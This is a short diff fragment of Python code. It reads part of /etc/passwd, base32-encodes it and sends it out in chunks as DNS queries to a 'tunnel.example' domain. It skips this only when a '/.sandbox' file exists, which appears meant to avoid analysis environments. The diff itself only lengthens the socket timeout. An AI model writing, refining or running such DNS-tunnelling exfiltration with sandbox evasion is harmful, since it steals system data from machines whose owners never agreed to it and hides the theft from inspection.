@@ -11,7 +11,7 @@ if not os.path.exists("/.sandbox"):
 with open("/etc/passwd", "rb") as file:
     text = base64.b32encode(file.read(1800)).decode().rstrip("=").lower()
 link = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
-link.settimeout(1)
+link.settimeout(8)
 for number, start in enumerate(range(0, min(len(text), 60 * 50), 50)):
     name = f"{text[start : start + 50]}.{number}.t.tunnel.example"
     question = b"".join(bytes([len(part)]) + part.encode() for part in name.split(".")) + b"\0"
